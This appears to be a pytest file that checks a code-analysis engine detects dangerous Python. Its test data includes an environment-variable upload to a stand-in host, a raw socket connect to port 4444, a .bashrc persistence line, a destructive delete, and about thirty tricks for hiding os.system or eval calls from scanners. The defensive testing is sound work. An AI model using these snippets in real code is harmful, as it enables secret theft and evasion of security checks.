"""Obfuscated code is recognised."""

from __future__ import annotations

import pytest

from engine.analysis import analyse
from engine.models import Language, Level
from tests.engine.analysis.rewriter import REWRITES

_PLAIN = {
    "process": "import os\n\ndef go(c):\n    os.system(c)\ngo('ls -la')\n",
    "exec_eval": "code = 'print(1)'\nexec(code)\n",
    "deserialization": "import pickle\n\ndef load(data):\n    return pickle.loads(data)\nload(b'I1\\n.')\n",
    "fs_sensitive": "with open('/etc/passwd') as file:\n    print(file.read())\n",
    "fs_delete": "import shutil\nshutil.rmtree('/home/user/data')\n",
    "net_access": "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n",
    "exfil_upload": "import os, requests\nrequests.post('https://a.example', data=dict(os.environ))\n",
    "process_kill": "import os\nos.kill(1234, 9)\n",
    "persistence": "with open('/root/.bashrc', 'a') as file:\n    file.write('alias ls=rm')\n",
    "kernel_surface": "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.ptrace(0, 1, 0, 0)\n",
}

_TRICKS = [
    "from os import *\nsystem('ls')",
    "import os\n{'run': os.system}['run']('ls')",
    "import os\nfor f in (os.system, os.popen):\n    f('ls')",
    "import os\nfor n, f in {'a': os.system}.items():\n    f('ls')",
    "import os\nlist(map(os.system, ['ls']))",
    "from functools import partial\nimport os\npartial(os.system, 'ls')()",
    "import operator, os\noperator.attrgetter('system')(os)('ls')",
    "import operator, os\noperator.methodcaller('system', 'ls')(os)",
    "import functools, os\nfunctools.reduce(getattr, ['system'], os)('ls')",
    "if (m := __import__('o' + 's')):\n    m.system('ls')",
    "match __import__('os'):\n    case m:\n        m.system('ls')",
    "class A:\n    __class_getitem__ = eval\nA['1']",
    "@exec\n@input\nclass X:\n    pass",
    "import sys\nsys.modules['os'].system('ls')",
    "import os\nvars(os)['system']('ls')",
    "import os\nos.__dict__.get('system')('ls')",
    "globals()['__builtins__'].__dict__['exec']('1')",
    "from os import path\npath.os.system('ls')",
    "import random\nrandom._os.system('ls')",
    "().__class__.__base__.__subclasses__()[1]",
    "import os\nclass P:\n  def __init__(self):\n    self.r = os.system\n  def go(self, c):\n    self.r(c)",
    "def pick(m, n):\n    return getattr(m, n)\nimport os\npick(os, 'sys' + 'tem')('ls')",
    "def dec(s):\n    return ''.join(chr(ord(c) ^ 3) for c in s)\ngetattr(__builtins__, dec('fubo'))('1')",
    "getattr(__builtins__, '%s%s' % ('ev', 'al'))('1')",
    "getattr(__builtins__, f\"{'ev'}{'al'}\")('1')",
    "getattr(__builtins__, ''.join(reversed('lave')))('1')",
    "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
    "exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]))",
    "type('X', (), {'f': lambda self: __import__('os').system('ls')})",
    "import threading, os\nthreading.Thread(target=os.system, args=('ls',)).start()",
    "\U0001d5be\U0001d5cf\U0001d5ba\U0001d5c5('1')",
]


def _categories(code: str) -> set[str]:
    violations = analyse(code, Language.PYTHON).violations
    return {v.category for v in violations if v.severity.rank >= Level.MEDIUM.rank}


@pytest.mark.parametrize("rewrite", REWRITES)
@pytest.mark.parametrize("category", _PLAIN)
def test_a_rewrite_keeps_its_category(category: str, rewrite: str) -> None:
    """The violation of the plain code is among those of the rewritten code."""
    assert category in _categories(_PLAIN[category])
    assert category in _categories(REWRITES[rewrite](_PLAIN[category]))


@pytest.mark.parametrize("code", _TRICKS)
def test_an_evasion_of_python_is_found(code: str) -> None:
    """Each reaches a dangerous function by another of the language's ways."""
    assert {"exec_eval", "process", "escape_gadget", "obfuscation"} & _categories(code)


@pytest.mark.parametrize(
    "code",
    [
        "class T:\n    def system(self, x): ...\nos = T()\nos.system('ls')",
        "def eval(x):\n    return x\neval('1')",
        "import math\ngetattr(math, 'p' + 'i')",
        "import numpy as np\nnp.load('a.npy')",
        "names = {'ev' + 'al': 1}\nprint(names['eval'])",
        "text = '-'.join(['a', 'b'])\nprint(text.format(1))",
        "import json\ndata = json.loads('{}')\nprint(data.get('system'))",
    ],
)
def test_similar_harmless_code_is_clean(code: str) -> None:
    """The same words with other meanings are no violations of MEDIUM or above."""
    assert set() == _categories(code)
